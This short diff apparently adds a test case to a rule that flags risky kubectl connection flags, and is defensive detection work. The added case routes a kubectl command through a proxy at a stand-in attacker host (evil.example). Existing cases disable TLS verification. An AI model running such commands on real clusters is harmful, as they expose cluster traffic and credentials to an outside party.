@@ -29,6 +29,7 @@ export const connection = defineRule({
     "kubectl get pods -v=9",
     "kubectl logs web --insecure-skip-tls-verify-backend",
     "kubectl get pods --kubeconfig=x --help",
+    "kubectl get pods --proxy-url=http://evil.example:8080",
   ],
   notMatch: [
     "kubectl get pods -v=2",
